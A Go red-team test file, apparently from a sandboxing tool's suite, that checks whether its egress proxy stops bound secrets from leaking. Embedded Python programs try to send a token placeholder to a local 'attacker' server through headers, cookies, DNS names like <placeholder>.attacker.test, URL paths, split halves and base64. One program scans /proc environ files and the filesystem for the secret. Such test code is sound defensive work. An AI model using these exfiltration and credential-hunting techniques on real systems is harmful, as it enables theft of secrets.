package redteam

import (
	"context"
	"crypto/tls"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"net/http"
	"net/http/httputil"
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"time"

	"github.com/moat-sandbox/moat/egress"
	"github.com/moat-sandbox/moat/engine"
	"github.com/moat-sandbox/moat/manifest"
	"github.com/moat-sandbox/moat/result"
)

// Secrets outside the sandbox (issue 20 §1): the manifest binds a secret
// to a local HTTPS test API (its own certificate, which only the proxy
// trusts); the program holds a placeholder and tries to carry it, or the
// real value, to a local "attacker" server that the allowlist lets it
// reach. Judged from the host: what the attacker server received, what the
// bound API received, the proxy's log and the result. The hard line in
// every case: the attacker never receives the real value and the program
// never sees it.
func registerSecretCases() {
	why := func(s string) string {
		return s + "; in every case the attacker server (an allowed host) must never receive the real value and the result (the program's output included) must never hold it, and the bound API must have received it (the control)"
	}
	for _, c := range []Case{
		{
			ID: "secret-exfil-unbound-host", Category: "secrets", Severity: "critical",
			Threat: "send a secret's placeholder to an allowed host the secret is not bound to (Authorization, X-Api-Key, a cookie, a JSON body, and a redirect from the bound API that urllib follows with the Authorization header)",
			Why:    why("the proxy refuses every such request before dialing (reason secret-exfiltration) and the run gets a secret-exfiltration violation: the attacker server receives nothing"),
			custom: secretUnboundHost,
		},
		{
			ID: "secret-exfil-dns-name", Category: "secrets", Severity: "high",
			Threat: "carry the placeholder in a destination name: CONNECT <placeholder>.localhost:PORT, GET http://<PLACEHOLDER>.localhost:PORT/, a Host header naming it, and a lookup of <placeholder>.attacker.test from inside",
			Why:    why("the proxy refuses a name holding a placeholder before any lookup (which would carry it off the host), reason secret-exfiltration; the sandbox has no resolver of its own"),
			custom: secretDNSName,
		},
		{
			ID: "secret-exfil-url-path", Category: "secrets", Severity: "high",
			Threat: "carry the placeholder to an allowed, unbound host in the URL path or query: as written and percent-encoded",
			Why:    why("the proxy searches the request target for the run's placeholders in those forms and refuses (secret-exfiltration) before dialing"),
			custom: secretURLPath,
		},
		{
			ID: "secret-exfil-split", Category: "secrets", Severity: "medium",
			Threat: "send the placeholder to an allowed, unbound host in two halves, one request each, to be joined outside; and whole but upper-cased (in a header and in the path)",
			Why:    why("the halves (and the upper-cased placeholder, a transformation THREATS lists as not recognised outside host names) are not the placeholder as the proxy matches it, so the proxy lets them through and they reach the attacker: that is by design, because the placeholder is worthless outside the run (only this run's proxy turns it into the value, and only on requests to the bound host). What must never happen is the real value reaching the attacker, whole or in parts: the halves are of the placeholder, never of the value"),
			custom: secretSplit,
		},
		{
			ID: "secret-exfil-base64", Category: "secrets", Severity: "high",
			Threat: "send the placeholder base64-encoded (standard and URL-safe alphabets, at each of the 3 alignments, and inside HTTP Basic credentials user:<placeholder>) in headers and bodies to an allowed, unbound host",
			Why:    why("the proxy recognises base64 of the run's placeholders at every alignment in headers and plain-HTTP bodies and refuses (secret-exfiltration) before dialing"),
			custom: secretBase64,
		},
		{
			ID: "secret-value-inside", Category: "secrets", Severity: "critical",
			Threat: "find the real value of a bound secret inside the sandbox: every /proc/*/environ and /proc/*/cmdline, the program's environment, every file under / it can read, and the bound API's response that echoes the Authorization header it received (in the body and a response header)",
			Why:    "the value exists only in moat's process on the host; the sandbox holds the placeholder, and the proxy replaces the value by the placeholder in what the bound API sends back. The program searches for the value's public prefix and prints whatever follows it; the host judges the output and the whole result",
			custom: secretValueInside,
		},
	} {
		register(c)
	}
}

// secretAPI is the bound test API: HTTPS on the host's loopback with the
// store's certificate. It records the Authorization header of each request
// and echoes it back in the body and the X-Echo response header; /redirect
// sends the client to the attacker.
type secretAPI struct {
	srv   *http.Server
	port  int
	mu    sync.Mutex
	auths []string
}

func startSecretAPI(st *SecretStore, attackerPort int) (*secretAPI, error) {
	l, err := tls.Listen("tcp4", "127.0.0.1:0", &tls.Config{Certificates: []tls.Certificate{st.cert}, MinVersion: tls.VersionTLS12})
	if err != nil {
		return nil, err
	}
	a := &secretAPI{port: l.Addr().(*net.TCPAddr).Port}
	a.srv = &http.Server{ReadHeaderTimeout: 10 * time.Second, Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		auth := r.Header.Get("Authorization")
		a.mu.Lock()
		a.auths = append(a.auths, auth)
		a.mu.Unlock()
		if r.URL.Path == "/redirect" {
			http.Redirect(w, r, fmt.Sprintf("http://localhost:%d/stolen", attackerPort), http.StatusFound)
			return
		}
		w.Header().Set("X-Echo", auth)
		fmt.Fprintf(w, "path=%s authorization=%s\n", r.URL.Path, auth)
	})}
	go a.srv.Serve(l)
	return a, nil
}

func (a *secretAPI) received(value string) int {
	a.mu.Lock()
	defer a.mu.Unlock()
	n := 0
	for _, s := range a.auths {
		if strings.Contains(s, value) {
			n++
		}
	}
	return n
}

// secretAttacker is the attacker's server: plain HTTP on the host's
// loopback, allowed by the manifest, recording every request whole.
type secretAttacker struct {
	srv  *http.Server
	port int
	mu   sync.Mutex
	reqs []string
}

func startSecretAttacker() (*secretAttacker, error) {
	l, err := net.Listen("tcp4", "127.0.0.1:0")
	if err != nil {
		return nil, err
	}
	a := &secretAttacker{port: l.Addr().(*net.TCPAddr).Port}
	a.srv = &http.Server{ReadHeaderTimeout: 10 * time.Second, Handler: http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		dump, _ := httputil.DumpRequest(r, true)
		a.mu.Lock()
		a.reqs = append(a.reqs, string(dump))
		a.mu.Unlock()
		fmt.Fprint(w, "attacker got it\n")
	})}
	go a.srv.Serve(l)
	return a, nil
}

func (a *secretAttacker) requests() []string {
	a.mu.Lock()
	defer a.mu.Unlock()
	return append([]string(nil), a.reqs...)
}

// secretPy is the programs' prelude: the placeholder from the environment,
// api() for the bound API (urllib through the injected HTTPS_PROXY, which
// trusts the run CA through SSL_CERT_FILE), send() for raw requests to the
// attacker through the proxy.
const secretPy = `
import base64, json, os, socket, urllib.parse, urllib.request
PH = os.environ["API_TOKEN"]
API, ATK = sys.argv[1], sys.argv[2]
print("placeholder", PH)
def api(path="/"):
    req = urllib.request.Request("https://localhost:%s%s" % (API, path), headers={"Authorization": "Bearer " + PH})
    try:
        r = urllib.request.urlopen(req, timeout=10)
        body = r.read().decode("latin-1")
        print("api", path, "->", r.status, "x-echo:", r.headers.get("X-Echo"), "body:", body.strip()[:300])
        return body
    except Exception as e:
        print("api", path, "->", type(e).__name__, getattr(e, "code", ""), str(e)[:160])
        return ""
def send(method, path, hdrs=None, body="", host=None, hosthdr=None):
    h = host or "localhost:%s" % ATK
    lines = ["%s http://%s%s HTTP/1.1" % (method, h, path), "Host: %s" % (hosthdr or h), "Connection: close", "Content-Length: %d" % len(body)]
    for k, v in (hdrs or {}).items():
        lines.append("%s: %s" % (k, v))
    s, st = ask("\r\n".join(lines) + "\r\n\r\n" + body)
    s.close()
    print(method, path[:48], "->", st)
    return st
`

// secretRun is one secret case's run: a fresh secret bound to the test
// API (header Authorization, variable API_TOKEN), the API and the attacker
// allowed, prog run with their ports as arguments (and extra ones).
type secretRun struct {
	res      *result.Result
	value    string
	ph       string // the placeholder, as the program printed it
	api      *secretAPI
	attacker []string // every request the attacker received, whole
}

func (r *runner) secretCase(ctx context.Context, prog string, extra ...string) (*secretRun, string, string) {
	if r.secrets == nil {
		return nil, NotApplicable, "this runner was started without a secret source (redteam.Options.Secrets): moat redteam gives it one"
	}
	name, value := r.secrets.bind()
	defer r.secrets.forget(name)
	atk, err := startSecretAttacker()
	if err != nil {
		return nil, Error, "host setup: " + err.Error()
	}
	defer atk.srv.Close()
	api, err := startSecretAPI(r.secrets, atk.port)
	if err != nil {
		return nil, Error, "host setup: " + err.Error()
	}
	defer api.srv.Close()
	m := r.defaults()
	m.Network.Mode = "allowlist"
	m.Network.Allow = []string{"localhost:" + strconv.Itoa(api.port), "localhost:" + strconv.Itoa(atk.port)}
	m.Network.AllowAddresses = []string{"127.0.0.1"}
	m.Secrets = []manifest.Secret{{Name: name, Hosts: []string{"localhost:" + strconv.Itoa(api.port)}, Header: "Authorization", Env: "API_TOKEN"}}
	m.Resources.Timeout = manifest.Duration(90 * time.Second)
	m.Resources.CPUTime = m.Resources.Timeout
	if err := m.Validate(); err != nil {
		return nil, Error, "manifest: " + err.Error()
	}
	m.Tier = r.tier // after validation, as netRun
	argv := append(egressProg(secretPy+prog, strconv.Itoa(api.port), strconv.Itoa(atk.port)), extra...)
	res, err := r.exec(ctx, &engine.Request{Manifest: m, Argv: argv})
	if err != nil {
		// A tier without an egress proxy (network mode allowlist
		// refused) has no proxy to hold a secret's value: nothing to
		// attack. Anything else is an error.
		var fe *manifest.FieldError
		if errors.As(err, &fe) && fe.Field == "network.mode" {
			return nil, NotApplicable, "the tier has no egress proxy, so no secret can be bound: " + err.Error()
		}
		v, ev, _ := runErr(err)
		return nil, v, ev
	}
	sr := &secretRun{res: res, value: value, api: api, attacker: atk.requests()}
	if ph := regexp.MustCompile(`placeholder (\S+)`).FindStringSubmatch(decode(res.Stdout)); ph != nil {
		sr.ph = ph[1]
	}
	return sr, "", ""
}

// breach is the hard judgement of every secret case: the real value at
// the attacker, or anywhere in the result (the program's output
// included). The evidence never quotes the value.
func (s *secretRun) breach() string {
	for i, q := range s.attacker {
		if containsFold(q, s.value) || containsFold(unescapeAll(q), s.value) {
			return fmt.Sprintf("the attacker server received the real value (request %d of %d, %d bytes)", i+1, len(s.attacker), len(q))
		}
	}
	js, _ := json.Marshal(s.res)
	if strings.Contains(string(js), s.value) {
		return "the result (the program's output, the network log or another field) holds the real value"
	}
	return ""
}

// control says why the case proved nothing, "" when the binding worked:
// the program got a placeholder and the bound API received the value.
func (s *secretRun) control() string {
	if !egress.IsPlaceholder(s.ph) {
		return fmt.Sprintf("the program printed no placeholder (exit %d, stdout %q, stderr %q)", s.res.ExitCode, clip(decode(s.res.Stdout), 200), clip(decode(s.res.Stderr), 300))
	}
	if s.api.received(s.value) == 0 {
		return fmt.Sprintf("the bound API never received the value, so the binding did not work (%s; %s)", egressReasons(s.res), netTail(s.res))
	}
	return ""
}

// refusals counts the proxy's secret-exfiltration refusals and says
// whether the run got its violation.
func (s *secretRun) refusals() (int, bool) {
	n := 0
	for _, a := range s.res.Network {
		if !a.Allowed && a.Reason == egress.ReasonSecretExfiltration {
			n++
		}
	}
	viol := false
	for _, v := range s.res.Violations {
		viol = viol || v.Kind == result.ViolationSecretExfiltration
	}
	return n, viol
}

// leaked returns the first of forms (of the placeholder) the attacker
// received as written (or percent-encoded), with its index, or -1. Exact:
// the proxy does not promise to recognise other case forms outside host
// names (THREATS), and the split case sends one on purpose.
func (s *secretRun) leaked(forms []string) (int, string) {
	for _, q := range s.attacker {
		for i, f := range forms {
			if f != "" && (strings.Contains(q, f) || strings.Contains(unescapeAll(q), f)) {
				return i, q
			}
		}
	}
	return -1, ""
}

func containsFold(s, sub string) bool {
	return sub != "" && strings.Contains(strings.ToLower(s), strings.ToLower(sub))
}

// unescapeAll percent-decodes s as far as it decodes.
func unescapeAll(s string) string {
	for i := 0; i < 3; i++ {
		u, err := url.PathUnescape(s)
		if err != nil || u == s {
			break
		}
		s = u
	}
	return s
}

// judgeRefused is the judgement of the cases whose every attempt must be
// refused: no breach, the control worked, none of forms reached the
// attacker, at least want refusals and the violation.
func judgeRefused(s *secretRun, forms []string, want int, what string) (string, string, int) {
	if b := s.breach(); b != "" {
		return Escaped, b, 1
	}
	if c := s.control(); c != "" {
		return Error, c, 1
	}
	if i, q := s.leaked(forms); i >= 0 {
		return Escaped, fmt.Sprintf("the attacker server received the placeholder (form %d; worthless outside the run, but the refusal THREATS promises did not happen): %q", i, clip(q, 160)), 1
	}
	n, viol := s.refusals()
	if n < want || !viol {
		return Error, fmt.Sprintf("%d secret-exfiltration refusals of %d, violation=%v: the program did not run as planned (%s; %s; stdout %q)", n, want, viol, egressReasons(s.res), netTail(s.res), clip(decode(s.res.Stdout), 300)), 1
	}
	return Contained, fmt.Sprintf("%s: %d requests refused as secret-exfiltration before dialing, a secret-exfiltration violation, the attacker server received %d requests and no placeholder, the bound API received the value (control); the value is nowhere in the result", what, n, len(s.attacker)), 1
}

func secretUnboundHost(ctx context.Context, r *runner) (string, string, int) {
	prog := `
api("/")
send("GET", "/", {"Authorization": "Bearer " + PH})
send("GET", "/", {"X-Api-Key": PH})
send("GET", "/", {"Cookie": "t=" + PH})
send("POST", "/upload", {"Content-Type": "application/json"}, json.dumps({"token": PH}))
api("/redirect")
`
	s, v, ev := r.secretCase(ctx, prog)
	if s == nil {
		return v, ev, 0
	}
	return judgeRefused(s, []string{s.ph}, 5, "Authorization, X-Api-Key, cookie, JSON body and the followed redirect to the unbound host")
}

func secretDNSName(ctx context.Context, r *runner) (string, string, int) {
	prog := `
api("/")
connect(PH + ".localhost:" + ATK)
send("GET", "/", host=PH.upper() + ".localhost:" + ATK)
send("GET", "/", hosthdr=PH + ".localhost:" + ATK)
try:
    print("lookup", socket.getaddrinfo(PH + ".attacker.test", 80))
except OSError as e:
    print("lookup failed", e)
`
	s, v, ev := r.secretCase(ctx, prog)
	if s == nil {
		return v, ev, 0
	}
	// The Host header of a plain request is not where the proxy decides
	// (it rewrites Host to the URI's authority), so that attempt may go
	// through without the placeholder: the attacker must not see it.
	return judgeRefused(s, []string{s.ph}, 2, "CONNECT and GET to <placeholder>.localhost, a Host header naming it, an inside lookup")
}

func secretURLPath(ctx context.Context, r *runner) (string, string, int) {
	prog := `
api("/")
send("GET", "/" + PH)
send("GET", "/x?token=" + PH)
send("GET", "/" + "".join("%%%02X" % ord(c) for c in PH))
`
	s, v, ev := r.secretCase(ctx, prog)
	if s == nil {
		return v, ev, 0
	}
	return judgeRefused(s, []string{s.ph}, 3, "the placeholder in the path, the query and percent-encoded")
}

func secretSplit(ctx context.Context, r *runner) (string, string, int) {
	prog := `
api("/")
h = len(PH) // 2
send("GET", "/a?part=" + PH[:h])
send("GET", "/b?part=" + PH[h:])
send("GET", "/c", {"X-Up": PH.upper()})
send("GET", "/" + PH.upper())
`
	s, v, ev := r.secretCase(ctx, prog)
	if s == nil {
		return v, ev, 0
	}
	if b := s.breach(); b != "" {
		return Escaped, b, 1
	}
	if c := s.control(); c != "" {
		return Error, c, 1
	}
	if i, q := s.leaked([]string{s.ph}); i >= 0 {
		return Escaped, fmt.Sprintf("the attacker server received the whole placeholder in one request: %q", clip(q, 160)), 1
	}
	h := len(s.ph) / 2
	got := 0
	for _, part := range []string{s.ph[:h], s.ph[h:]} {
		if i, _ := s.leaked([]string{part}); i >= 0 {
			got++
		}
	}
	// The value's halves: the attacker must see neither.
	vh := len(s.value) / 2
	if i, _ := s.leaked([]string{s.value[:vh], s.value[vh:]}); i >= 0 {
		return Escaped, "the attacker server received half of the real value", 1
	}
	if got != 2 {
		return Error, fmt.Sprintf("the attacker received %d of the 2 halves: the program did not run as planned (%s; %s)", got, egressReasons(s.res), netTail(s.res)), 1
	}
	// The upper-cased placeholder may be refused (a proxy that folds
	// case) or pass (today's): either way it is worthless.
	upper := "was refused"
	if i, _ := s.leaked([]string{strings.ToUpper(s.ph)}); i >= 0 {
		upper = "reached the attacker too"
	}
	return Contained, "both halves of the placeholder reached the attacker and the placeholder upper-cased " + upper + " (by design: a placeholder is worthless outside its run and is turned into the value only on requests to the bound host); no part of the real value did, and the value is nowhere in the result; the bound API received it (control)", 1
}

// secretB64Forms are the base64 forms of the placeholder the program
// sends: standard and URL-safe, at offsets 0, 1, 2, and as HTTP Basic
// credentials user:<placeholder>.
func secretB64Forms(ph string) []string {
	var out []string
	for _, pad := range []string{"", "x", "xy"} {
		out = append(out, base64.StdEncoding.EncodeToString([]byte(pad+ph)), base64.URLEncoding.EncodeToString([]byte(pad+ph)))
	}
	return append(out, base64.StdEncoding.EncodeToString([]byte("user:"+ph)))
}

func secretBase64(ctx context.Context, r *runner) (string, string, int) {
	prog := `
api("/")
for pad in ["", "x", "xy"]:
    send("POST", "/b64", {"Content-Type": "text/plain"}, base64.b64encode((pad + PH).encode()).decode())
    send("GET", "/", {"X-Data": base64.urlsafe_b64encode((pad + PH).encode()).decode()})
send("GET", "/", {"Authorization": "Basic " + base64.b64encode(("user:" + PH).encode()).decode()})
`
	s, v, ev := r.secretCase(ctx, prog)
	if s == nil {
		return v, ev, 0
	}
	if !egress.IsPlaceholder(s.ph) {
		return Error, s.control(), 1
	}
	// The forms are exact strings; the middle of each (whole 4-character
	// groups away from the ends) is what any alignment must match.
	var forms []string
	for _, f := range secretB64Forms(s.ph) {
		forms = append(forms, strings.TrimRight(f, "="))
	}
	return judgeRefused(s, forms, 7, "base64 of the placeholder (standard, URL-safe, 3 alignments, Basic credentials) in bodies and headers")
}

func secretValueInside(ctx context.Context, r *runner) (string, string, int) {
	prog := `
import time
PREFIX = bytes.fromhex(sys.argv[3])  # hex: the prefix itself is not in this command line
found = []
def scan(label, data):
    i = data.find(PREFIX)
    while i >= 0 and len(found) < 50:
        found.append("%s: %r" % (label, data[i:i + 64]))
        i = data.find(PREFIX, i + 1)
for p in os.listdir("/proc"):
    if p.isdigit():
        for f in ("environ", "cmdline"):
            try:
                scan("/proc/%s/%s" % (p, f), open("/proc/%s/%s" % (p, f), "rb").read())
            except OSError:
                pass
scan("os.environ", repr(dict(os.environ)).encode())
files, end = 0, time.monotonic() + 40
for root, dirs, names in os.walk("/"):
    dirs[:] = [d for d in dirs if os.path.join(root, d) not in ("/proc", "/sys", "/dev")]
    if time.monotonic() > end:
        print("file walk stopped at the time budget in", root)
        break
    for n in names:
        p = os.path.join(root, n)
        try:
            if os.path.isfile(p) and not os.path.islink(p) and os.path.getsize(p) <= 4 << 20:
                scan(p, open(p, "rb").read()); files += 1
        except OSError:
            pass
scan("api body", api("/echo").encode("latin-1"))
try:
    r = urllib.request.urlopen(urllib.request.Request("https://localhost:%s/echo2" % API, headers={"Authorization": "Bearer " + PH}), timeout=10)
    scan("api headers", str(r.headers).encode("latin-1")); scan("api body 2", r.read())
except Exception as e:
    print("api 2", type(e).__name__, e)
print("files read", files)
print("FOUND", len(found))
for f in found:
    print("found", f)
`
	s, v, ev := r.secretCase(ctx, prog, hex.EncodeToString([]byte(secretValuePrefix)))
	if s == nil {
		return v, ev, 0
	}
	if b := s.breach(); b != "" {
		return Escaped, b, 1
	}
	if c := s.control(); c != "" {
		return Error, c, 1
	}
	out := decode(s.res.Stdout)
	if strings.Contains(out, "found ") && !strings.Contains(out, "FOUND 0") {
		// Something with the value's prefix is inside, though not this
		// run's value: a value of another run would be as bad.
		return Escaped, "the program found text with the secret values' prefix inside: " + clip(out[strings.Index(out, "found "):], 200), 1
	}
	files := regexp.MustCompile(`files read (\d+)`).FindStringSubmatch(out)
	if files == nil || !strings.Contains(out, "FOUND 0") || !strings.Contains(out, "authorization=Bearer "+s.ph) {
		return Error, fmt.Sprintf("the search did not run to its end, or the API's echo did not come back with the placeholder (stdout %q; stderr %q)", clip(out, 400), clip(decode(s.res.Stderr), 200)), 1
	}
	walk := "every file of at most 4 MiB under / but /proc, /sys and /dev"
	if strings.Contains(out, "file walk stopped") {
		walk = "the files the walk reached in its 40 s budget"
	}
	return Contained, fmt.Sprintf("the value is in no /proc/*/environ or cmdline, not in the environment, in none of %s files read (%s), and the bound API's echo (body and X-Echo header) came back with the placeholder in its place; the bound API received the value (control)", files[1], walk), 1
}
